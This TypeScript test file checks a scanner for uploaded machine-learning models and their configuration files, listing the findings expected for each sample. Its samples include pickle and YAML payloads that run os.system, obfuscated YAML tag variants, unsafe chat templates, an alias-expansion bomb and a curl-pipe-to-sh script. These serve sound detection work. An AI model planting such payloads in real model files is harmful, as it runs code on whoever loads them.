/* eslint-disable max-lines -- one table of cases, each read on its own */
import { expect } from 'chai';
import { global, line, assemble, pickle, text } from './pickle-assembler.ts';
import { rulesOf, scanBytes, scanFiles } from './scan-bytes.ts';
import { writeZip } from './zip-writer.ts';

const EVIL = pickle(global('os', 'system'), text('id'), 'TUPLE1', 'REDUCE');
const EVIL_TEXT = assemble(
  global('os', 'system'),
  'MARK',
  'STRING',
  line("'id'"),
  'TUPLE',
  'REDUCE',
  'STOP',
);

function npy(header: string, data: Uint8Array, major = 1): Buffer {
  const length = Buffer.alloc(major === 1 ? 2 : 4);
  if (major === 1) length.writeUInt16LE(header.length);
  else length.writeUInt32LE(header.length);
  return Buffer.concat([
    Buffer.from([0x93]),
    Buffer.from('NUMPY'),
    Buffer.from([major, 0]),
    length,
    Buffer.from(header, 'latin1'),
    data,
  ]);
}
const HEADER = "{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }\n";

describe('npy and npz', () => {
  const cases: [string, string[], string, Uint8Array][] = [
    ['an array', [], 'a.npy', npy(HEADER, Buffer.alloc(8))],
    ['version 2', [], 'a.npy', npy(HEADER, Buffer.alloc(8), 2)],
    [
      'fields and sub-arrays',
      [],
      'a.npy',
      npy(
        "{'descr': [('a', '<i4'), ('b', '<f8', (2,))], 'fortran_order': False, 'shape': (3,), }\n",
        Buffer.alloc(60),
      ),
    ],
    ['objects', [], 'a.npy', npy(HEADER.replace('<f4', '|O'), pickle('NONE'))],
    [
      'objects that call',
      ['pickle-global-blocked', 'pickle-call-blocked'],
      'a.npy',
      npy(HEADER.replace('<f4', '|O'), EVIL),
    ],
    [
      'objects in a field',
      ['pickle-global-blocked', 'pickle-call-blocked'],
      'a.npy',
      npy(HEADER.replace("'<f4'", "[('a', '<i4'), ('b', '|O')]"), EVIL),
    ],
    [
      'bytes behind the objects',
      ['format-trailing-data'],
      'a.npy',
      npy(HEADER.replace('<f4', '|O'), Buffer.concat([pickle('NONE'), EVIL])),
    ],
    ['bytes behind the data', ['npy-size'], 'a.npy', npy(HEADER, Buffer.alloc(9))],
    ['too few data', ['npy-size'], 'a.npy', npy(HEADER, Buffer.alloc(7))],
    [
      'a huge shape',
      ['npy-size'],
      'a.npy',
      npy(HEADER.replace('(2,)', '(9999999999, 9999999999)'), Buffer.alloc(8)),
    ],
    [
      'a header that is an expression',
      ['npy-header'],
      'a.npy',
      npy(HEADER.replace('(2,)', '(1+1,)'), Buffer.alloc(8)),
    ],
    [
      'a header that calls',
      ['npy-header'],
      'a.npy',
      npy(HEADER.replace('(2,)', '__import__("os")'), Buffer.alloc(8)),
    ],
    [
      'a deep header',
      ['npy-header'],
      'a.npy',
      npy(HEADER.replace('(2,)', `${'('.repeat(500)}2,${')'.repeat(500)}`), Buffer.alloc(8)),
    ],
    [
      'a key twice in the header',
      ['npy-header'],
      'a.npy',
      npy(HEADER.replace("'descr'", "'descr': '|O', 'descr'"), Buffer.alloc(8)),
    ],
    [
      'an unknown dtype',
      ['npy-header'],
      'a.npy',
      npy(HEADER.replace('<f4', '<q4'), Buffer.alloc(8)),
    ],
    [
      'a number of three bytes',
      ['npy-header'],
      'a.npy',
      npy(HEADER.replace('<f4', '<f3'), Buffer.alloc(6)),
    ],
    [
      'times of four bytes',
      ['npy-header'],
      'a.npy',
      npy(HEADER.replace('<f4', '<M4[ns]'), Buffer.alloc(8)),
    ],
    ['times', [], 'a.npy', npy(HEADER.replace('<f4', '<M8[25s]'), Buffer.alloc(16))],
    ['long numbers', [], 'a.npy', npy(HEADER.replace('<f4', '<f16'), Buffer.alloc(32))],
    [
      'a number with a zero in front',
      ['npy-header'],
      'a.npy',
      npy(HEADER.replace('(2,)', '(010,)'), Buffer.alloc(40)),
    ],
    [
      'a field twice',
      ['npy-header'],
      'a.npy',
      npy(
        "{'descr': [('a', '<i4'), ('a', '<i4')], 'fortran_order': False, 'shape': (1,), }\n",
        Buffer.alloc(8),
      ),
    ],
    [
      'a field twice by its title',
      ['npy-header'],
      'a.npy',
      npy(
        "{'descr': [(('t', 'a'), '<i4'), ('t', '<i4')], 'fortran_order': False, 'shape': (1,), }\n",
        Buffer.alloc(8),
      ),
    ],
    [
      'fields with titles and gaps',
      [],
      'a.npy',
      npy(
        "{'descr': [(('t', 'a'), '<i2'), ('', '|V2'), ('b', '<i4'), ('', '|V2')], 'fortran_order': False, 'shape': (1,), }\n",
        Buffer.alloc(10),
      ),
    ],
    [
      'more elements of no bytes than anybody can go through',
      ['npy-size'],
      'a.npy',
      npy(HEADER.replace('<f4', '|V0').replace('(2,)', '(99999999999999,)'), Buffer.alloc(0)),
    ],
    ['a few elements of no bytes', [], 'a.npy', npy(HEADER.replace('<f4', '|V0'), Buffer.alloc(0))],
    ['version 9', ['npy-header'], 'a.npy', npy(HEADER, Buffer.alloc(8), 9)],
    [
      'an npy that is a pickle',
      ['pickle-global-blocked', 'pickle-call-blocked', 'format-extension-mismatch'],
      'a.npy',
      EVIL,
    ],
    [
      'an npz',
      [],
      'a.npz',
      writeZip([{ name: 'x.npy', bytes: npy(HEADER, Buffer.alloc(8)), deflate: true }]),
    ],
    [
      'an npz of zeros',
      [],
      'a.npz',
      writeZip([
        {
          name: 'x.npy',
          bytes: npy(HEADER.replace('(2,)', '(2000000,)'), Buffer.alloc(8_000_000)),
          deflate: true,
        },
      ]),
    ],
    [
      'an npz whose member is a pickle',
      ['pickle-global-blocked', 'pickle-call-blocked', 'format-extension-mismatch', 'npz-layout'],
      'a.npz',
      writeZip([{ name: 'x.npy', bytes: EVIL }]),
    ],
  ];
  for (const [what, rules, name, bytes] of cases) {
    it(`${what} → ${rules.join(', ') || 'pass'}`, () =>
      expect(rulesOf(scanBytes(name, bytes))).to.have.members(rules));
  }
});

/** nine lines of nine aliases each: 9^9 values */
const LAUGHS = `a: &a [${'x, '.repeat(9)}]\n${[...'bcdefghi'].map((name, i) => `${name}: &${name} [${`*${'abcdefgh'[i]!}, `.repeat(9)}]\n`).join('')}`;
const MERGES = `a: &a {x: 1}\n${[...'bcdefghi'].map((name, i) => `${name}: &${name}\n  <<: [${`*${'abcdefgh'[i]!}, `.repeat(9)}]\n`).join('')}`;

describe('what a file is', () => {
  const magic = (...bytes: (number | string)[]): Buffer =>
    Buffer.concat([
      ...bytes.map((b) => (typeof b === 'string' ? Buffer.from(b, 'latin1') : Buffer.from([b]))),
      Buffer.alloc(600, 0xee),
    ]);
  const cases: [string, string[], string, Uint8Array | string, ('model' | 'side')?][] = [
    ['a pickle under .bin', ['pickle-global-blocked', 'pickle-call-blocked'], 'model.bin', EVIL],
    [
      'a pickle of protocol 0 under .pkl',
      ['pickle-global-blocked', 'pickle-call-blocked'],
      'model.pkl',
      EVIL_TEXT,
    ],
    [
      'a pickle of protocol 0 under .txt',
      ['format-ambiguous', 'pickle-global-blocked', 'pickle-call-blocked'],
      'notes.txt',
      EVIL_TEXT,
      'side',
    ],
    [
      'a pickle under .safetensors',
      ['pickle-global-blocked', 'pickle-call-blocked', 'format-extension-mismatch'],
      'model.safetensors',
      EVIL,
    ],
    [
      'a pickle without an extension',
      ['pickle-global-blocked', 'pickle-call-blocked'],
      'model',
      EVIL,
    ],
    ['ELF', ['format-executable'], 'lib.so', magic(0x7f, 'ELF'), 'side'],
    [
      'ELF that calls itself Python',
      ['format-executable', 'format-extension-mismatch'],
      'serve.py',
      magic(0x7f, 'ELF'),
      'side',
    ],
    ['PE', ['format-executable'], 'a.dll', magic('MZ\x90\0'), 'side'],
    ['Mach-O', ['format-executable'], 'a.dylib', magic(0xcf, 0xfa, 0xed, 0xfe), 'side'],
    ['byte code', ['format-executable'], 'a.pyc', magic(0xa7, '\r\r\n'.slice(1)), 'side'],
    [
      '7z under .pt',
      ['format-not-understood', 'format-extension-mismatch'],
      'model.pt',
      magic('7z', 0xbc, 0xaf, 0x27, 0x1c),
    ],
    ['GGUF', ['gguf-structure'], 'model.gguf', magic('GGUF')],
    ['ONNX', ['protobuf-wire'], 'model.onnx', magic(8, 7)],
    ['gzip', ['compressed-structure'], 'model.gz', magic(0x1f, 0x8b, 8, 0)],
    [
      'tar',
      ['tar-structure'],
      'model.tar',
      Buffer.concat([Buffer.alloc(257, 1), Buffer.from('ustar'), Buffer.alloc(300)]),
    ],
    ['noise', ['format-not-understood'], 'model.xyz', magic(0xee)],
    ['an empty model', ['format-empty'], 'model.pkl', ''],
    ['an empty side file', [], '__init__.py', '', 'side'],
    ['Python', [], 'serve.py', 'import json\nclass A:\n    pass\n', 'side'],
    ['Python that begins like a pickle', [], 'a.py', 'class Foo:\n    pass\n', 'side'],
    ['requirements', [], 'requirements.txt', 'numpy==2.0\n', 'side'],
    ['text as a model', ['format-not-understood'], 'model.txt', 'tree\nversion=v4\n'],
    ['text with NUL', ['format-not-understood'], 'a.unknown', 'a\0b', 'side'],
    ['Python with a control character', ['text-encoding'], 'a.py', 'x = 1\u0008\n', 'side'],
    ['Latin-1', ['text-encoding'], 'a.py', Buffer.from('# gr\xfc\xdfe\n', 'latin1'), 'side'],
    ['JSON', [], 'config.json', '{"a": [1, 2.5, null]}', 'side'],
    ['JSON with a key twice', ['json-invalid'], 'config.json', '{"a": 1, "a": 2}', 'side'],
    [
      'JSON with numbers that are none, as Python writes it',
      [],
      'trainer_state.json',
      '{"loss": NaN, "norm": Infinity, "low": -Infinity}',
      'side',
    ],
    [
      'an index of parts',
      [],
      'model.safetensors.index.json',
      '{"weight_map": {"a": "model-00001-of-00002.safetensors"}}',
      'side',
    ],
    [
      'an index of parts elsewhere',
      ['settings-path'],
      'model.safetensors.index.json',
      '{"weight_map": {"a": "../../x.bin"}}',
      'side',
    ],
    [
      'an index of parts by absolute paths',
      ['settings-path'],
      'pytorch_model.bin.index.json',
      '{"weight_map": {"a": "/tmp/x.bin"}}',
      'side',
    ],
    [
      'an adapter of transformers',
      [],
      'adapter_config.json',
      '{"auto_mapping": {"parent_library": "transformers.models.bert.modeling_bert", "base_model_class": "BertModel"}}',
      'side',
    ],
    ['an adapter without a library', [], 'adapter_config.json', '{"auto_mapping": null}', 'side'],
    [
      'an adapter of Python itself',
      ['settings-target'],
      'adapter_config.json',
      '{"auto_mapping": {"parent_library": "os", "base_model_class": "system"}}',
      'side',
    ],
    [
      'an adapter of somebody',
      ['settings-remote-code'],
      'adapter_config.json',
      '{"auto_mapping": {"parent_library": "mine", "base_model_class": "X"}}',
      'side',
    ],
    ['JSON with a comment', ['json-invalid'], 'config.json', '{} // x', 'side'],
    [
      'YAML of settings',
      [],
      'config.yaml',
      'a: 1\nprompt: "{{ x }}"\nchat_template: "{% for m in messages %}{{ m.content }}{% endfor %}"\n',
      'side',
    ],
    [
      'YAML with anchors, aliases and merges',
      [],
      'config.yaml',
      'base: &b {lr: 0.1, wd: 0}\nruns:\n  - <<: *b\n    lr: 0.2\n  - *b\nname: "a & b * c"\n',
      'side',
    ],
    ['YAML of Jinja that is none', [], 'values.yaml', 'a: {{ .Values.a }}\nb: *{{ x }}\n', 'side'],
    ['aliases that unfold without end', ['limit-exceeded'], 'config.yaml', LAUGHS, 'side'],
    ['merges that unfold without end', ['limit-exceeded'], 'config.yaml', MERGES, 'side'],
    [
      'aliases that unfold without end in a second document',
      ['limit-exceeded'],
      'config.yaml',
      `a: 1\n---\n${LAUGHS}`,
      'side',
    ],
    [
      'aliases that unfold without end in what is no YAML here',
      ['limit-exceeded'],
      'config.yaml',
      `${LAUGHS}z: @x\n`,
      'side',
    ],
    ['YAML that holds itself', ['limit-exceeded'], 'config.yaml', 'a: &a [*a]\n', 'side'],
    [
      'YAML that is nested too deep',
      ['limit-exceeded'],
      'config.yaml',
      `a: ${'['.repeat(5000)}`,
      'side',
    ],
    [
      'YAML that looks things up',
      [],
      'config.yaml',
      'a: ${b.c}\nb: ${multiply:2,3}\nc: "${PORT:-80}"\n',
      'side',
    ],
    ['YAML that runs a text', ['settings-target'], 'config.yaml', 'a: ${eval:"1+1"}\n', 'side'],
    [
      'YAML that reads the environment',
      ['settings-resolver'],
      'config.yaml',
      'a: ${oc.env:SECRET}\n',
      'side',
    ],
    [
      'a target of hydra in a second document',
      ['settings-target'],
      'config.yaml',
      'a: 1\n---\nm:\n  _target_: os.system\n',
      'side',
    ],
    [
      'YAML that calls',
      ['yaml-python-tag'],
      'config.yml',
      'a: !!python/object/apply:os.system ["id"]\n',
      'side',
    ],
    [
      'YAML that calls, by the long name of the tag',
      ['yaml-python-tag'],
      'config.yml',
      'a: !<tag:yaml.org,2002:python/name:os.system> x\n',
      'side',
    ],
    [
      'an unsafe chat template in YAML',
      ['template-unsafe'],
      'config.yaml',
      'm:\n  - chat_template: >-\n      {{ x.__class__ }}\n',
      'side',
    ],
    [
      'YAML that calls, in letters of an address',
      ['yaml-python-tag'],
      'config.yml',
      'a: !!%70ython/object/apply:os.system ["true"]\n',
      'side',
    ],
    [
      'YAML that calls, behind a mark of the order of bytes',
      ['yaml-python-tag'],
      'config.yml',
      '\ufeff%TAG !e! tag:yaml.org,2002:\n---\na: !e!python/name:os.system x\n',
      'side',
    ],
    [
      'YAML that calls, behind a line end of YAML 1.1',
      ['yaml-python-tag'],
      'config.yml',
      '# a\u0085%TAG !e! tag:yaml.org,2002:\u0085---\u0085a: !e!python/name:os.system x\u0085',
      'side',
    ],
    [
      'an unsafe chat template in escapes',
      ['template-unsafe'],
      'config.yaml',
      'chat_template: "\\x7b{ x.__class__ }}"\n',
      'side',
    ],
    [
      'an unsafe chat template by an alias',
      ['template-unsafe'],
      'config.yaml',
      'a: &t "{{ x.__class__ }}"\nchat_template: *t\n',
      'side',
    ],
    [
      'an unsafe chat template of several',
      ['template-unsafe'],
      'config.yaml',
      'chat_template:\n  default: "{{ x.__class__ }}"\n',
      'side',
    ],
    [
      'an unsafe chat template under a key in escapes',
      ['template-unsafe'],
      'config.yaml',
      '"chat\\x5ftemplate": "{{ x.__class__ }}"\n',
      'side',
    ],
    [
      'an unsafe chat template as text',
      ['template-unsafe'],
      'chat_template.txt',
      '{{ x.__class__ }}',
      'side',
    ],
    [
      'a target of hydra that starts programs',
      ['settings-target'],
      'config.yaml',
      'm:\n  _target_: os.system\n  command: "true"\n',
      'side',
    ],
    [
      'a target of hydra of a layer',
      [],
      'config.yaml',
      'm:\n  _target_: torch.nn.Linear\n',
      'side',
    ],
    [
      'a target of hydra of nobody',
      ['settings-remote-code'],
      'config.yaml',
      'm:\n  _target_: mine.Model\n',
      'side',
    ],
    [
      'a class path of Lightning that starts programs',
      ['settings-target'],
      'config.yaml',
      'class_path: subprocess.run\n',
      'side',
    ],
    [
      'a target of MONAI in JSON that starts programs',
      ['settings-target'],
      'inference.json',
      '{"a": {"_target_": "os.system"}}',
      'side',
    ],
    ['objects of jsonpickle', ['settings-target'], 'a.json', '{"py/object": "os.system"}', 'side'],
    [
      'a pipeline of its own',
      ['settings-remote-code'],
      'config.json',
      '{"custom_pipelines": {"p": {"impl": "x.P"}}}',
      'side',
    ],
    [
      'code that is trusted beforehand',
      ['settings-remote-code'],
      'config.json',
      '{"trust_remote_code": true}',
      'side',
    ],
    ['code that is not trusted', [], 'config.json', '{"trust_remote_code": false}', 'side'],
    [
      'parts of diffusers',
      [],
      'model_index.json',
      '{"_class_name": "P", "a": ["diffusers", "X"], "b": ["transformers", "Y"], "c": [null, null]}',
      'side',
    ],
    [
      'a part from a file beside it',
      ['settings-remote-code'],
      'model_index.json',
      '{"_class_name": "P", "a": ["my_module", "X"]}',
      'side',
    ],
    [
      'modules of sentence-transformers',
      [],
      'modules.json',
      '[{"idx": 0, "type": "sentence_transformers.models.Transformer"}]',
      'side',
    ],
    [
      'a module of somebody else',
      ['settings-remote-code'],
      'modules.json',
      '[{"idx": 0, "type": "custom_st.Transformer"}]',
      'side',
    ],
    [
      'requirements',
      [],
      'requirements.txt',
      '# ours\nnumpy==2.2.1 ; python_version > "3.8"\n-r more.txt\n',
      'side',
    ],
    [
      'requirements from an index that is not encrypted',
      ['docker-package-source'],
      'requirements.txt',
      '--index-url http://index.example/simple\nnumpy==2.2.1\n',
      'side',
    ],
    [
      'requirements from a repository',
      ['docker-package-from-url'],
      'requirements.txt',
      'x @ https://a.example/x.whl\ngit+https://a.example/x\n',
      'side',
    ],
    [
      'settings of pip',
      ['docker-package-source'],
      'pip.conf',
      '[global]\nindex-url = http://index.example/simple\n',
      'side',
    ],
    [
      'a script that runs what it fetches',
      ['docker-piped-installer'],
      'setup.sh',
      '#!/bin/sh\ncurl https://a.example/x | sh\n',
      'side',
    ],
    [
      'a script',
      [],
      'setup.sh',
      '#!/bin/sh\n# curl | sh would be wrong\nset -e\npython app.py\n',
      'side',
    ],
    [
      'a pickle as text that calls and then breaks',
      ['format-ambiguous', 'pickle-global-blocked', 'pickle-call-blocked', 'pickle-structure'],
      'a.txt',
      "cposix\nsystem\n(S'true'\ntRX",
      'side',
    ],
    ['text that begins like a pickle', [], 'a.txt', 'copyright\nby us\n', 'side'],
    [
      'an unsafe chat template in what is no YAML',
      ['template-unsafe'],
      'config.yaml',
      'a: "\nchat_template: {{ x.__class__ }}\n',
      'side',
    ],
    ['auto_map', ['json-remote-code'], 'config.json', '{"auto_map": {"AutoModel": "x.Y"}}', 'side'],
    [
      'unsafe chat template',
      ['template-unsafe'],
      'tokenizer_config.json',
      '{"x": [{"chat_template": "{{ x.__class__ }}"}]}',
      'side',
    ],
  ];
  for (const [what, rules, name, bytes, kind] of cases) {
    it(`${what} → ${rules.join(', ') || 'pass'}`, () => {
      const result = scanBytes(name, bytes, kind);
      expect(rulesOf(result), JSON.stringify(result.findings)).to.have.members(rules);
    });
  }

  it('judges one upload together: the worst file decides, digests and formats of each are told', () => {
    const result = scanFiles([
      { name: 'model.pkl', bytes: pickle('NONE') },
      { name: 'serve.py', bytes: 'print(1)\n', kind: 'side' },
      {
        name: 'Dockerfile',
        bytes:
          'ARG REGISTRY\nFROM ${REGISTRY}/base/python:3.11\nLABEL creativeflow.port="9000"\nUSER 65532\nCMD ["a"]\n',
        kind: 'dockerfile',
      },
    ]);
    expect(result.verdict).to.equal('pass');
    expect(result.details.formats).to.deep.equal({
      'model.pkl': 'pickle',
      'serve.py': 'text',
      Dockerfile: 'dockerfile',
    });
    expect(result.details.digests['serve.py']).to.equal(
      'sha256:cc42155088fca5730758db72b2a5bca33112a941dfaa2d43098ec422ce4ea213',
    );
    expect(result.serving).to.deep.equal({ port: 9000 });
    expect(
      scanFiles([
        { name: 'a.pkl', bytes: EVIL },
        { name: 'b.pkl', bytes: pickle('NONE') },
      ]).verdict,
    ).to.equal('block');
  });
});
